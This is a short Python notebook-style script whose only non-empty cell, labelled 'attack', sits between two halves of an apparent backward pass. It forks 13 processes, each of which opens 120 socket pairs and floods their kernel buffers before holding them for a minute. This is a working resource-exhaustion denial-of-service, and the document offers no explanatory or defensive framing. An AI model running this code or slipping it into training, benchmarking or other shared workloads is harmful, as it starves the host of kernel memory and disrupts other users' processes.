# %% setup
# %% forward
# %% backward, first half
# %% attack
import os
import socket
import time
for _ in range(13):
    if os.fork() == 0:
        kept = [socket.socketpair() for _ in range(120)]
        for side in (side for pair in kept for side in pair):
            side.setblocking(False)
            try:
                while True:
                    side.send(bytes(1 << 16))
            except OSError:
                pass
        time.sleep(60)
        os._exit(0)
time.sleep(5)
# %% backward, second half
